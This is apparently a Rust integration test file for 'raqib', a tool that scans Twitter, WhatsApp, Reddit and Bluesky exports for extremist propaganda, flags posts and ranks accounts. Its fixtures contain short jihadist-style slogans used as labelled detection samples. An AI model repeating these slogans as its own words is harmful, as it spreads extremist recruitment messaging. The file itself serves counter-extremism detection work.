    let accounts = jsonl(&out.join("accounts.jsonl"));
    let channel = accounts
        .iter()
        .find(|a| a["id"] == "Example Channel")
        .unwrap();
    assert_eq!(channel["platform"], "telegram");
    assert_eq!(channel["display_name"], "Example Channel");
    assert!(std::fs::read_to_string(out.join("diagnostics.jsonl"))
        .unwrap()
        .is_empty());
}

fn by_id_text<'a>(posts: &'a [serde_json::Value], id: &str) -> &'a str {
    posts
        .iter()
        .find(|p| p["id"] == id)
        .and_then(|p| p["text"].as_str())
        .unwrap_or_else(|| panic!("no post {id}"))
}

/// Twitter's account archive given as its folder: the tweets and the deleted tweets read
/// without `--format`, every one credited to the owner from `account.js`, whose profile,
/// follower count and follows make the account; likes are not posts; a long post's text
/// is whole, from `note-tweet.js`, and a long post no tweet takes is a post of its own.
#[test]
fn a_twitter_archive_is_scanned_as_its_owners_posts() {
    let (_dir, out) = scan_all_posts("tests/data/twitter_archive");
    let posts = jsonl(&out.join("posts.jsonl"));
    let ids: Vec<&str> = posts.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        [
            "1600000000000000105",
            "1600000000000000998",
            "1600000000000000101",
            "1600000000000000102",
            "1600000000000000103",
            "1600000000000000104",
            "1600000000000000106",
            "1600000000000000107"
        ]
    );
    assert!(posts.iter().all(|p| p["account"] == "9000000101"));
    // A post over 280 characters: its whole text, from note-tweet.js.
    let long = by_id_text(&posts, "1600000000000000106");
    assert!(
        long.ends_with("the khilafah & their brothers https://t.co/note2"),
        "{long}"
    );
    let by_id = |id: &str| posts.iter().find(|p| p["id"] == id).unwrap();
    let own = by_id("1600000000000000998");
    assert!(
        own["file"].as_str().unwrap().ends_with("note-tweet.js"),
        "{own}"
    );
    assert_eq!(own["line"], 4);
    let flagged = by_id("1600000000000000101");
    assert_eq!(flagged["flagged"], true, "{flagged}");
    assert_eq!(flagged["line"], 2);
    assert_eq!(
        flagged["text"],
        "Glad tidings for the soldiers of the khilafah & their brothers"
    );
    assert_eq!(by_id("1600000000000000105")["flagged"], true);
    assert_eq!(by_id("1600000000000000102")["flagged"], false);
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts.len(), 1, "{accounts:?}");
    let owner = &accounts[0];
    assert_eq!(owner["id"], "9000000101");
    assert_eq!(owner["handle"], "example_ansar");
    assert_eq!(owner["display_name"], "Example Owner");
    assert_eq!(owner["reach"], 3);
    assert_eq!(owner["posts"], 8);
    assert_eq!(owner["flagged_posts"], 2);
    assert!(std::fs::read_to_string(out.join("diagnostics.jsonl"))
        .unwrap()
        .is_empty());
}

/// WhatsApp's "Export chat" files (Android, iPhone, an Arabic phone's) found in a folder
/// by their names: each message a post of its chat at its line, its sender an account, the
/// chat's own lines and deleted messages left out, dates read in each file's order.
#[test]
fn whatsapp_chats_are_scanned_from_their_folder() {
    let (_dir, out) = scan_all_posts("tests/data/whatsapp");
    let posts = jsonl(&out.join("posts.jsonl"));
    let ids: Vec<&str> = posts.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        [
            "Example Group/2",
            "Example Group/3",
            "Example Group/4",
            "Arabic Example/1",
            "Arabic Example/2",
            "Example Group/3",
            "Example Group/4",
            "Example Group/5",
            "Example Group/7",
            "Example Group/9"
        ]
    );
    // Each post's place is its chat, as its file (or its folder, on iPhone) names it.
    for p in &posts {
        let chat = p["id"].as_str().unwrap().rsplit_once('/').unwrap().0;
        assert_eq!(p["place"], chat, "{p}");
    }
    let flagged: Vec<(&str, &str)> = posts
        .iter()
        .filter(|p| p["flagged"] == true)
        .map(|p| (p["id"].as_str().unwrap(), p["account"].as_str().unwrap()))
        .collect();
    assert_eq!(
        flagged,
        [
            ("Example Group/2", "Example Admin"),
            ("Arabic Example/1", "مثال"),
            ("Example Group/3", "Example Admin")
        ]
    );
    // 2 November 2026 in all three: day first (Android, Arabic), month first (iPhone, US).
    let day = |p: &serde_json::Value| p["created_at"].as_i64().unwrap() / 86_400;
    assert!(posts[..7].iter().all(|p| day(p) == 20_759), "{posts:?}");
    assert_eq!(
        posts[9]["text"],
        "see you all at the match\nbring the tickets\n\nand the flag"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert!(accounts.iter().all(|a| a["platform"] == "whatsapp"));
    assert!(accounts.iter().any(|a| a["id"] == "+44 7700 900123"));
    assert!(!accounts.iter().any(|a| a["id"] == "Example Group"));
    assert!(std::fs::read_to_string(out.join("diagnostics.jsonl"))
        .unwrap()
        .is_empty());

    // The phones' zone given: every time moves by it.
    let (_dir2, west) = scan_all_posts_with("tests/data/whatsapp", &["--utc-offset", "-05:30"]);
    let west = jsonl(&west.join("posts.jsonl"));
    for (a, b) in posts.iter().zip(&west) {
        assert_eq!(
            b["created_at"].as_i64().unwrap() - a["created_at"].as_i64().unwrap(),
            19_800
        );
    }
    let o = run(&["scan", "tests/data/whatsapp", "--utc-offset", "Baghdad"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("+03:00"), "{}", stderr(&o));

    // One phone's zone for one chat, another's for a folder: each chat's times move by
    // its own, the deepest path naming it winning over the zone given for every input.
    let arabic = "tests/data/whatsapp/WhatsApp Chat with Arabic Example.txt=+03:00";
    let (_dir3, mixed) = scan_all_posts_with(
        "tests/data/whatsapp",
        &[
            "--utc-offset",
            "-05:30",
            "--utc-offset",
            arabic,
            "--utc-offset",
            "./tests/data/whatsapp/WhatsApp Chat - Example Group=+01:00",
        ],
    );
    let mixed = jsonl(&mixed.join("posts.jsonl"));
    let moved: Vec<i64> = posts
        .iter()
        .zip(&mixed)
        .map(|(a, b)| b["created_at"].as_i64().unwrap() - a["created_at"].as_i64().unwrap())
        .collect();
    assert_eq!(
        moved,
        [-3_600, -3_600, -3_600, -10_800, -10_800, 19_800, 19_800, 19_800, 19_800, 19_800]
    );
    // A path that is none of the inputs, or one path given twice: refused, saying why.
    for (args, code, says) in [
        (
            vec!["--utc-offset", "tests/data/whatsap=+03:00"],
            1,
            "is none of the inputs' files",
        ),
        (
            vec!["--utc-offset", arabic, "--utc-offset", arabic],
            1,
            "given twice",
        ),
        (vec!["--utc-offset", "=+03:00"], 2, "names no file"),
    ] {
        let mut all = vec!["scan", "tests/data/whatsapp", "--out"];
        let out = tempfile::tempdir().unwrap();
        let out_s = out.path().to_str().unwrap().to_string();
        all.push(&out_s);
        all.extend(args);
        let o = run(&all);
        assert_eq!(o.status.code(), Some(code), "{}", stderr(&o));
        assert!(stderr(&o).contains(says), "{}", stderr(&o));
    }
}

/// `train` and `eval` check `--utc-offset PATH=...` against all the files they read, the
/// dev files too.
#[test]
fn offsets_for_a_path_are_checked_against_every_file_read() {
    let dir = tempfile::tempdir().unwrap();
    let model = dir.path().join("m.model");
    let model = model.to_str().unwrap();
    let dev = "corpus/hard_negatives.jsonl";
    let o = run(&[
        "train",
        "--data",
        "corpus/starter.jsonl",
        "--dev",
        dev,
        "--utc-offset",
        &format!("{dev}=+03:00"),
        "--out",
        model,
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = run(&[
        "eval",
        "--model",
        model,
        "--data",
        dev,
        "--utc-offset",
        "corpus=+03:00",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = run(&[
        "eval",
        "--model",
        model,
        "--data",
        dev,
        "--utc-offset",
        "chats=+03:00",
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("none of the inputs"), "{}", stderr(&o));
}

/// `--json-map` reads a Reddit dump's comments and submissions (no format of raqib's):
/// the title and body joined, the author an account, a record without text a diagnostic
/// that names the path it looked at.
#[test]
fn a_json_mapping_reads_a_reddit_dump() {
    let (_dir, out) = scan_all_posts_with(
        "tests/data/reddit_comments.jsonl",
        &[
            "--json-map",
            "text=title+selftext+body,id=name,account=author,handle=author,created_at=created_utc",
            "--platform",
            "reddit",
        ],
    );
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts.len(), 2, "{posts:?}");
    assert_eq!(posts[0]["id"], "t1_a");
    assert_eq!(posts[0]["flagged"], true);
    assert_eq!(posts[0]["platform"], "reddit");
    assert_eq!(
        posts[1]["text"],
        "Police arrest two men\n\nThe court hears the case next week"
    );
    assert_eq!(posts[1]["flagged"], false);
    let diags = jsonl(&out.join("diagnostics.jsonl"));
    assert_eq!(diags.len(), 1);
    assert_eq!(diags[0]["line"], 3);
    assert!(diags[0]["message"]
        .as_str()
        .unwrap()
        .contains("title+selftext+body"));
    let o = run(&[
        "scan",
        "tests/data/reddit_comments.jsonl",
        "--json-map",
        "txt=body",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("unknown field `txt`"), "{}", stderr(&o));
}

/// `--weight FILE=N` counts a file's posts N times: here a word that a collected file
/// calls propaganda three times and a curated file calls benign twice is benign once the
/// curated file counts three times, and the training message says so. A FILE that is not
/// a --data file, one named twice, and an N out of range are refused with what was given.
#[test]
fn train_weight_counts_a_files_posts_more_than_once() {
    let dir = tempfile::tempdir().unwrap();
    let mut collected = String::new();
    for i in 0..3 {
        collected.push_str(&format!(
            "{{\"id\":\"c{i}\",\"text\":\"zorblat {i}\",\"label\":1}}\n"
        ));
    }
    for i in 0..40 {
        collected.push_str(&format!(
            "{{\"id\":\"p{i}\",\"text\":\"join the caravan of the khilafah {i}\",\"label\":1}}\n{{\"id\":\"n{i}\",\"text\":\"market bus weather lunch {i}\",\"label\":0}}\n"
        ));
    }
    let collected = write(dir.path(), "collected.jsonl", collected.as_bytes());
    let curated = write(
        dir.path(),
        "curated.jsonl",
        b"{\"id\":\"k1\",\"text\":\"zorblat news\",\"label\":0}\n{\"id\":\"k2\",\"text\":\"zorblat report\",\"label\":0}\n",
    );
    let score = |weight: Option<&str>| {
        let model = dir.path().join("w.model");
        let mut args = vec![
            "train",
            "--data",
            &collected,
            &curated,
            "--out",
            model.to_str().unwrap(),
            "--bits",
            "16",
            "--threads",
            "1",
            "--char-ngrams",
            "0",
        ];
        if let Some(w) = weight {
            args.extend(["--weight", w]);
        }
        let o = run(&args);
        assert!(o.status.success(), "{}", stderr(&o));
        let o = run(&["explain", "--model", model.to_str().unwrap(), "zorblat"]);
        assert!(o.status.success(), "{}", stderr(&o));
        // `0.9835 FLAGGED (threshold 0.7500)`: the probability first.
        let out = stdout(&o);
        out.split_whitespace()
            .next()
            .unwrap()
            .parse::<f64>()
            .unwrap()
    };
    let plain = score(None);
    let by_weight = format!("{curated}=3");
    let weighted = score(Some(&by_weight));
    assert!(
        weighted < plain,
        "counted three times, the curated posts pull the word down: {plain} -> {weighted}"
    );
    let model = dir.path().join("m.model");
    let train = |weights: &[&str]| {
        let mut args = vec!["train", "--data", &collected, &curated, "--bits", "16"];
        args.extend(["--out", model.to_str().unwrap()]);
        for w in weights {
            args.extend(["--weight", w]);
        }
        run(&args)
    };
    let o = train(&[&by_weight]);
    assert!(
        stderr(&o).contains(&format!(
            "trained on 89 posts (43 positive; {curated} counted 3 times)"
        )),
        "{}",
        stderr(&o)
    );
    for (weight, want) in [
        (
            "elsewhere.jsonl=3".to_string(),
            "is not one of the --data files",
        ),
        (
            format!("{curated}=0"),
            "N must be a whole number from 1 to 100",
        ),
        (
            format!("{curated}=101"),
            "N must be a whole number from 1 to 100",
        ),
        (curated.clone(), "--weight wants FILE=N"),
    ] {
        let o = train(&[&weight]);
        assert_eq!(o.status.code(), Some(1), "{weight}");
        assert!(stderr(&o).contains(want), "{weight}: {}", stderr(&o));
    }
    let o = train(&[&by_weight, &by_weight]);
    assert!(stderr(&o).contains("names"), "{}", stderr(&o));
}

/// `raqib eval` reports the false positives on hard negatives by kind, where the data
/// says the kind (`category`, in JSON Lines or a CSV column): so a team sees whether its
/// news reports or its counter-speech are the ones flagged. Posts without one are left
/// out of that breakdown only.
#[test]
fn eval_reports_each_category_of_posts_apart() {
    let dir = tempfile::tempdir().unwrap();
    let jsonl = dir.path().join("hard.jsonl");
    std::fs::write(
        &jsonl,
        [
            // A quote of the group's call, labelled clean (a news report's quote): the
            // built-in model flags it.
            r#"{"id":"1","text":"Join the soldiers of the khilafah today","label":0,"category":"news"}"#,
            r#"{"id":"2","text":"Police closed the road after the storm","label":0,"category":"news"}"#,
            r#"{"id":"3","text":"Extremists lie about the faith; talk to your imam","label":0,"category":"counter"}"#,
            r#"{"id":"4","text":"Lovely weather for a picnic","label":0}"#,
        ]
        .join("\n"),
    )
    .unwrap();
    let csv = dir.path().join("hard.csv");
    std::fs::write(
        &csv,
        "id,text,label,category\n5,Join the soldiers of the khilafah today,0,counter\n",
    )
    .unwrap();
    let o = run(&[
        "eval",
        "--data",
        jsonl.to_str().unwrap(),
        csv.to_str().unwrap(),
        "--json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["overall"]["n"], 5, "{v}");
    let by = &v["by_category"];
    let counts = |c: &str| {
        (
            by[c]["n"].as_u64().unwrap(),
            by[c]["confusion"]["fp"].as_u64().unwrap(),
        )
    };
    assert_eq!(counts("news"), (2, 1), "{by}");
    assert_eq!(counts("counter"), (2, 1), "{by}");
    assert_eq!(by.as_object().unwrap().len(), 2, "{by}");
    // The table says it too, one row a category.
    let o = run(&["eval", "--data", jsonl.to_str().unwrap()]);
    let table = stdout(&o);
    assert!(table.contains("by category:"), "{table}");
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("news ") && l.contains(" 2 ")),
        "{table}"
    );
    // Without categories, no such block.
    let plain = dir.path().join("plain.jsonl");
    std::fs::write(
        &plain,
        r#"{"id":"4","text":"Lovely weather for a picnic","label":0}"#,
    )
    .unwrap();
    let o = run(&["eval", "--data", plain.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(!stdout(&o).contains("by category:"), "{}", stdout(&o));
}

/// `raqib eval --errors N` names the posts behind the figures: the strongest false
/// positives and the weakest false negatives, each with its file, line, id, score and
/// evidence, so a reviewer reads what the model got wrong before moving a threshold.
#[test]
fn eval_lists_the_posts_it_got_wrong() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("dev.jsonl");
    std::fs::write(
        &data,
        [
            r#"{"raqib":1}"#,
            r#"{"id":"q1","text":"Join the soldiers of the khilafah today","label":0,"category":"news"}"#,
            r#"{"id":"ok","text":"Police closed the road after the storm","label":0}"#,
            r#"{"id":"q2","text":"Glad tidings for the soldiers of the khilafah, spread the release","label":0}"#,
            r#"{"id":"m1","text":"Lovely weather for a picnic","label":1}"#,
            r#"{"id":"hit","text":"Renew your bay'ah to the khalifah, the dawla remains","label":1}"#,
        ]
        .join("\n"),
    )
    .unwrap();
    let path = data.to_str().unwrap();
    let o = run(&["eval", "--data", path, "--errors", "5", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let fps = v["errors"]["false_positives"].as_array().unwrap();
    let ids: Vec<&str> = fps.iter().map(|e| e["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), 2, "{fps:?}");
    assert!(ids.contains(&"q1") && ids.contains(&"q2"), "{ids:?}");
    // Strongest first, each with where it is and why.
    assert!(
        fps[0]["score"].as_f64() >= fps[1]["score"].as_f64(),
        "{fps:?}"
    );
    let q1 = fps.iter().find(|e| e["id"] == "q1").unwrap();
    assert_eq!(q1["line"], 2);
    assert_eq!(q1["file"], path);
    assert_eq!(q1["category"], "news");
    assert!(
        q1["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["text"].as_str().unwrap().contains("khilafah")),
        "{q1}"
    );
    let fns = v["errors"]["false_negatives"].as_array().unwrap();
    assert_eq!(fns.len(), 1, "{fns:?}");
    assert_eq!(fns[0]["id"], "m1");
    // A missed post also says what held it down: negative weights, most first; a false
    // positive does not.
    let held: Vec<f64> = fns[0]["held_back_by"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["weight"].as_f64().unwrap())
        .collect();
    assert!(
        !held.is_empty() && held.iter().all(|&w| w < 0.0),
        "{held:?}"
    );
    assert!(held.windows(2).all(|w| w[0] <= w[1]), "{held:?}");
    assert!(fps.iter().all(|e| e["held_back_by"].is_null()), "{fps:?}");
    // `--errors 1` keeps the strongest one; the table shows it with its place.
    let o = run(&["eval", "--data", path, "--errors", "1"]);
    let table = stdout(&o);
    assert!(
        table.contains("false positives (clean posts flagged), strongest first:"),
        "{table}"
    );
    let first = fps[0]["id"].as_str().unwrap();
    let line = fps[0]["line"].as_u64().unwrap();
    assert!(
        table.contains(&format!("{path}:{line}  {first}")),
        "{table}"
    );
    let other = fps[1]["id"].as_str().unwrap();
    assert!(!table.contains(&format!("  {other}  [")), "{table}");
    assert!(table.contains("held back by: «"), "{table}");
    // Without `--errors`, no such list.
    let o = run(&["eval", "--data", path, "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(v["errors"].is_null(), "{v}");
}

/// A zip archive in a folder is read as the folder it holds: its members' posts in the
/// reports, each at `ARCHIVE.zip/MEMBER` and its line; so is one piped in.
#[test]
fn a_zip_archive_in_a_folder_is_scanned_inside() {
    let dir = tempfile::tempdir().unwrap();
    let exports = dir.path().join("exports");
    std::fs::create_dir(&exports).unwrap();
    std::fs::copy(
        root().join("tests/data/deflate64.zip"),
        exports.join("d.zip"),
    )
    .unwrap();
    let out = dir.path().join("report");
    let o = run(&[
        "scan",
        "--all-posts",
        exports.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let posts = jsonl(&out.join("posts.jsonl"));
    let at: Vec<(String, u64)> = posts
        .iter()
        .map(|p| {
            (
                p["file"].as_str().unwrap().to_string(),
                p["line"].as_u64().unwrap(),
            )
        })
        .collect();
    let member = exports.join("d.zip/posts.jsonl").display().to_string();
    assert_eq!(at, [(member.clone(), 1), (member, 2)]);
    // Before a zip is read, raqib says what it holds, as for a folder.
    let zipped = {
        use std::io::Write;
        let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let o = zip::write::SimpleFileOptions::default();
        for (name, data) in [
            ("posts.jsonl", &b"{\"id\":\"1\",\"text\":\"hello\"}\n"[..]),
            ("README.md", b"notes"),
            ("photo.jpg", b"\xff\xd8"),
        ] {
            z.start_file(name, o).unwrap();
            z.write_all(data).unwrap();
        }
        z.finish().unwrap().into_inner()
    };
    let archive = dir.path().join("export.zip");
    std::fs::write(&archive, zipped).unwrap();
    let o = run(&["scan", archive.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("export.zip: 1 input member; 2 other members left out"),
        "{}",
        stderr(&o)
    );
    // One piped in (`curl URL | raqib scan -`) is copied to a temporary file and read
    // inside the same way, its members named through `-`.
    let zip = std::fs::read(root().join("tests/data/deflate64.zip")).unwrap();
    let piped = dir.path().join("piped");
    let mut child = raqib()
        .args(["scan", "--all-posts", "-", "--out", piped.to_str().unwrap()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&zip).unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let at: Vec<(String, u64)> = jsonl(&piped.join("posts.jsonl"))
        .iter()
        .map(|p| {
            (
                p["file"].as_str().unwrap().to_string(),
                p["line"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        at,
        [("-/posts.jsonl".into(), 1), ("-/posts.jsonl".into(), 2)]
    );
}

/// Excel writes "CSV" with semicolons where the decimal mark is a comma, and "Unicode Text"
/// as UTF-16 with tabs: both read with no option. `--csv-delimiter` says what a header
/// cannot (here a comma and a pipe, as many of each), and a bad one is refused with what
/// to give.
#[test]
fn scan_reads_excels_semicolon_and_tab_files_and_takes_a_separator() {
    let dir = tempfile::tempdir().unwrap();
    let semi = dir.path().join("excel.csv");
    std::fs::write(
        &semi,
        "id;username;text;followers\n1;u1;\"Breaking: the army retook the town; 3 dead\";1,5\n",
    )
    .unwrap();
    let unicode_text = dir.path().join("excel.txt");
    let utf16: Vec<u8> = std::iter::once(0xfeff)
        .chain("id\tusername\ttext\r\n2\tu2\tشكرا جزيلا\r\n".encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    std::fs::write(&unicode_text, utf16).unwrap();
    let piped = dir.path().join("piped.csv");
    std::fs::write(&piped, "id,name|text\n7,x|a post with, commas\n").unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        semi.to_str().unwrap(),
        unicode_text.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 2, "{summary}");
    assert_eq!(summary["skipped_records"], 0, "{summary}");
    let accounts: Vec<String> = jsonl(&out.join("accounts.jsonl"))
        .iter()
        .map(|a| format!("{}/{}", a["id"], a["handle"]))
        .collect();
    assert!(accounts.iter().any(|a| a.contains("u1")), "{accounts:?}");
    assert!(accounts.iter().any(|a| a.contains("u2")), "{accounts:?}");

    let o = run(&[
        "scan",
        "--csv-delimiter",
        "|",
        piped.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 1, "{summary}");
    // Without it, a tie goes to the comma, and the header then has no text column.
    let o = run(&[
        "scan",
        piped.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(stderr(&o).contains("no text column"), "{}", stderr(&o));

    let o = run(&["scan", "--csv-delimiter", ";;", semi.to_str().unwrap()]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("is not a field separator"),
        "{}",
        stderr(&o)
    );
}

/// A Pushshift dump of Reddit comments and submissions is read with no option: posts by
/// their fullnames (a reply names its parent so), removed ones passed over; comments whose
/// authors deleted their accounts are flagged as posts but gathered under no account, which
/// is never flagged and ranks last.
#[test]
fn scan_reads_a_reddit_dump_and_flags_no_deleted_author_as_an_account() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "tests/data/reddit/RC_example.jsonl",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let posts = jsonl(&out.join("posts.jsonl"));
    let ids: Vec<&str> = posts.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert!(
        ids.contains(&"t1_c01") && ids.contains(&"t1_c03"),
        "{ids:?}"
    );
    assert!(posts.iter().all(|p| p["platform"] == "reddit"));
    assert!(
        !ids.contains(&"t3_s01"),
        "the court report is not flagged: {ids:?}"
    );
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(
        summary["posts"], 7,
        "the removed comment passed over: {summary}"
    );
    assert_eq!(summary["skipped_records"], 0, "{summary}");
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let by_id = |id: &str| accounts.iter().find(|a| a["id"] == id).unwrap().clone();
    assert_eq!(by_id("spreader_one")["flagged"], true);
    assert_eq!(by_id("spreader_one")["rank_risk"], 1);
    let unknown = by_id("(unknown)");
    assert_eq!(unknown["flagged"], false, "{unknown}");
    assert_eq!(unknown["flagged_posts"], 2, "{unknown}");
    assert_eq!(unknown["rank_risk"], accounts.len(), "{unknown}");
    assert!(
        unknown["why"]
            .as_str()
            .unwrap()
            .contains("not one author's"),
        "{unknown}"
    );
    assert!(accounts.iter().all(|a| a["id"] != "[deleted]"));
}

/// Bluesky's firehose as Jetstream writes it: posts by DID, the account's handle, name and
/// bio from separate events, and images matched to a hash list by the SHA-256 their blob
/// CIDs hold, with no file fetched.
#[test]
fn scan_reads_a_bluesky_firehose_and_matches_known_media_by_blob_cid() {
    let dir = tempfile::tempdir().unwrap();
    let lists = dir.path().join("lists");
    let lists = lists.to_str().unwrap();
    assert!(run(&["lists", "--dir", lists, "create", "known"])
        .status
        .success());
    let o = run(&[
        "lists",
        "--dir",
        lists,
        "add",
        "known",
        "--sha256",
        "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824",
        "--label",
        "outlet X poster",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "tests/data/bluesky/jetstream.jsonl",
        "--lists",
        lists,
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("jetstream.jsonl:9"),
        "the cut line named: {}",
        stderr(&o)
    );
    let posts = jsonl(&out.join("posts.jsonl"));
    let flagged: Vec<&str> = posts.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(
        flagged,
        [
            "at://did:plc:spreaderexample1/app.bsky.feed.post/3m1bpost0001",
            "at://did:plc:spreaderexample1/app.bsky.feed.post/3m1cpost0002"
        ],
        "the court report is not flagged"
    );
    let image = &posts[1];
    assert_eq!(
        image["media_matches"][0]["label"], "outlet X poster",
        "{image}"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let spreader = accounts
        .iter()
        .find(|a| a["id"] == "did:plc:spreaderexample1")
        .unwrap();
    assert_eq!(spreader["handle"], "spreader-one.example", "{spreader}");
    assert_eq!(spreader["display_name"], "Khilafah soldiers", "{spreader}");
    // The bio came in an event before the handle's: the profile scored is the whole one.
    assert!(
        spreader["profile_score"].as_f64().unwrap() > 0.9,
        "{spreader}"
    );
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 3, "{summary}");
    assert_eq!(summary["skipped_records"], 1, "{summary}");
}

/// A folder holding a Bluesky account's repository (`getRepo`'s CAR file) is read by the
/// file's `.car` name: the account's posts are scanned and the account ranked.
#[test]
fn scan_reads_a_bluesky_repository_in_a_folder() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = dir.path().join("collected");
    std::fs::create_dir(&inputs).unwrap();
    std::fs::copy(
        root().join("tests/data/bluesky/repo.car"),
        inputs.join("did_plc_spreaderexample1.car"),
    )
    .unwrap();
    std::fs::write(inputs.join("notes.txt"), "not an input").unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        inputs.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 3, "{summary}");
    assert_eq!(summary["skipped_records"], 0, "{summary}");
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(
        posts[0]["id"],
        "at://did:plc:spreaderexample1/app.bsky.feed.post/3m1bpost0001"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts[0]["display_name"], "Khilafah soldiers");
    assert_eq!(accounts[0]["flagged"], true);
}
